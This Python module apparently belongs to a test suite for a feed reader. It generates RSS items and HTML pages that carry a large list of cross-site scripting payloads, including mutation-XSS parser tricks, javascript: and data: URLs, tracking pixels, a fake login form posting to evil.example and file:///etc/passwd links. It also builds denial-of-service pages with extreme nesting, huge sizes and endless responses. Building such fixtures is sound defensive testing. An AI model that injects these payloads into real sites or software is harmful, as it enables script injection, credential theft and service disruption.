"""Feeds and pages whose markup and characters would do harm where they are read.

Each item has the title `Markup N` and harmless text that has to arrive beside the harm.
"""

from __future__ import annotations

from bench.attacks.documents import WORDS, feed, item
from bench.attacks.wire import Attack, Send, Wire, fixed

SAFE = f"<p>{WORDS * 8}</p>"

BODIES = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script/x>",
    "<script\0>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src='http://a.example/i.png' onload='alert(1)' width=300 height=300>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<base href='http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'http://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>over all</div>",
    "<div style='background:url(http://evil.example/track)'>styled</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<form action='http://evil.example/'><input name=password><button>Log in</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1) poster='javascript:alert(1)'></video>",
    "<audio src=x onerror=alert(1) autoplay></audio>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:http://a.example/1'>x</a>",
    "<a href='http://a.example/' target=_blank onclick=alert(1) ping='http://evil.example/'>x</a>",
    "<a href='http://a.example/' id=location name=body class=btn-login>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='http://track.example/p.gif' width=1 height=1>",
    "<img src='http://track.example/p.gif?u=1' style='display:none'>",
    "<img src='http://track.example/p.gif' width='0' height='0'>",
    "<img src='http://track.example/p.gif' height=1px width=1px>",
    "<img srcset='javascript:alert(1) 1x, http://a.example/b.png 2x' src='http://a.example/c.png'>",
    "<img src='http://a.example/i.png' usemap='#m'>"
    "<map name=m><area href='javascript:alert(1)'></map>",
    "<p title='</p><script>alert(1)</script>'>quoted</p>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]&gt;",
    "<?php echo 1; ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<custom-element onclick=alert(1) is=x>custom</custom-element>",
    "<slot name=x onslotchange=alert(1)>",
    "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</table>",
    "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
    "<isindex action='javascript:alert(1)' type=image>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<p>never closed <b><i><u>" * 50,
    "</div></article></body></html><script>alert(1)</script>",
    "<p on\u0131oad=alert(1) \u212aey=1>kelvin</p>",
    "<s\u017fcript>alert(1)</s\u017fcript>",
    "<p>lone &#xd800; and &#xdfff; and &#55357; surrogates</p>",
    "<p>not characters &#xfffe; &#xffff; &#x1fffe; \ufdd0 \ufffe</p>",
    "<p>controls &#0; &#1; &#8; &#11; &#12; &#27; &#127; &#128; &#159; \x7f\x80\x9f</p>",
    "<p>turned \u202e\u2066\u202d\u2067 around \u2068 \u200f never ended</p>",
    "<p>wid" + "\u200b" * 5000 + "th " + "\ufeff" * 5000 + " " + "\u2060" * 5000 + "</p>",
    "<p>zal" + "\u0301" * 5000 + "go</p>",
    "<p>joined " + "\u200d" * 5000 + "tags " + "\U000e0041\U000e007f" * 1000 + "</p>",
    "<p>lines \u2028 \u2029 \x85 end</p>",
    f"<p>{'A' * 200_000}</p>",
    "<p>" + "<b>" * 3000 + "deep" + "</b>" * 3000 + "</p>",
)

TITLES = (
    "<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "turned \u202e around",
    "lone &#xd800; surrogate",
    "controls &#1;&#8;\u0085",
    "not \ufffe characters",
    "\u200b" * 3000,
    "line\nbreak\r\nin it",
    "]]&gt; end",
)

LINKS = (
    "javascript:alert(1)",
    " JAVASCRIPT:alert(1)",
    "java&#9;script:alert(1)",
    "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
    "vbscript:x",
    "file:///etc/passwd",
    "http://user:password@a.example/x",
    "http://a.example/\u202e/x",
    "http://a.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "http://[bad/",
    "http://a.example:99999/",
    "//evil.example/x",
    "http://\u0430pple.example/",
)

ELEMENTS = (
    "<enclosure url='javascript:alert(1)' type='audio/mpeg' length='1'/>",
    "<enclosure url='data:text/html,x' type='text/html&quot;&gt;&lt;script' length='-1'/>",
    "<media:thumbnail url='javascript:alert(1)'/>",
    "<media:content url='http://track.example/1.gif' width='1' height='1' medium='image'/>",
    "<author>&lt;img src=x onerror=alert(1)&gt;</author>",
    "<category>&lt;script&gt;alert(1)&lt;/script&gt;</category>",
    "<category>\u202ebackwards</category>",
    "<comments>javascript:alert(1)</comments>",
    "<source url='javascript:alert(1)'>&lt;b&gt;x&lt;/b&gt;</source>",
    "<atom:link rel='enclosure' href='javascript:alert(1)'/>",
    "<atom:link rel='alternate' href='javascript:alert(1)'/>",
)


def _item_feed(
    number: int, body: str = "", title: str = "", link: str = "", more: str = ""
) -> bytes:
    name = f"Markup {number}"
    text = f"{body}{SAFE.replace('The council', f'The council of {number}')}".replace(
        "]]>", "]]&gt;"
    )
    place = link or f"http://markup.example/{number}"
    made = item(f"{name} {title}", text, more, place)
    return feed([made.replace(f"<guid isPermaLink='false'>{name} {title}", f"<guid>{name}")])


def _feeds() -> list[Attack]:
    made = [
        *((f"body {body[:60]!r}", {"body": body}) for body in BODIES),
        *((f"title {title[:60]!r}", {"title": title}) for title in TITLES),
        *((f"link {link[:60]!r}", {"link": link}) for link in LINKS),
        *((f"element {more[:60]!r}", {"more": more}) for more in ELEMENTS),
    ]
    return [
        Attack(
            f"markup {number}: {name}",
            "markup",
            fixed(_item_feed(number, **given)),
            ("new", "ok", "not_modified", "nothing_new"),
            delivered=f"Markup {number}",
            config='full_text = "feed"',
        )
        for number, (name, given) in enumerate(made, start=1)
    ]


def _pages() -> list[tuple[str, bytes]]:
    begun = f"<!doctype html><html><head><title>T</title></head><body><article><h1>T</h1>{SAFE * 3}"
    ends = "</article></body></html>"
    return [
        ("scripts", f"{begun}{''.join(BODIES[:60])}{SAFE}{ends}".encode("utf-8", "replace")),
        ("mutations", f"{begun}{''.join(BODIES[14:30])}{SAFE}{ends}".encode()),
        ("deep", (begun + "<div>" * 100_000 + SAFE).encode()),
        ("hanging attribute", (begun + "<a href='" + "x" * 3_000_000).encode()),
        ("hanging comment", (begun + "<!--" * 300_000).encode()),
        ("2 MB of <", (begun + "<" * 2_000_000).encode()),
        (
            "100,000 attributes",
            (begun + f"<p {' '.join(f'a{n}=1' for n in range(100_000))}>").encode(),
        ),
        ("200,000 paragraphs", (begun + "<p>x</p>" * 200_000).encode()),
        ("100,000 links", (begun + "<a href='/next'>next</a>" * 100_000).encode()),
        ("15 MB", (begun + SAFE * 20_000).encode()),
        ("lone surrogates", (begun + "&#xd800;" * 2000 + ends).encode()),
        ("turned around", (begun + "\u202e" * 2000 + ends).encode()),
        ("NUL bytes", begun.encode() + bytes(100_000)),
        ("binary", bytes(range(256)) * 4000),
        ("empty", b""),
        ("nested tables", (begun + "<table><tr><td>" * 20_000).encode()),
        ("nested formatting", (begun + "<b><i><a><p>" * 20_000).encode()),
        (
            "JSON-LD without end",
            (begun + "<script type='application/ld+json'>" + "[" * 200_000).encode(),
        ),
    ]


async def _endless_page(wire: Wire) -> None:
    await wire.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<article>")
    await wire.forever(b"<p>and so on</p>" * 4000)


async def _dripped_page(wire: Wire) -> None:
    await wire.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<article>")
    await wire.forever(b"<p>", 1)


def markup() -> list[Attack]:
    return _feeds()


def pages() -> list[tuple[str, Send]]:
    """The names of hostile pages, and what sends each."""
    found: list[tuple[str, Send]] = [
        (name, fixed(body, "200 OK", "Content-Type: text/html; charset=utf-8"))
        for name, body in _pages()
    ]
    return [*found, ("endless", _endless_page), ("dripped", _dripped_page)]
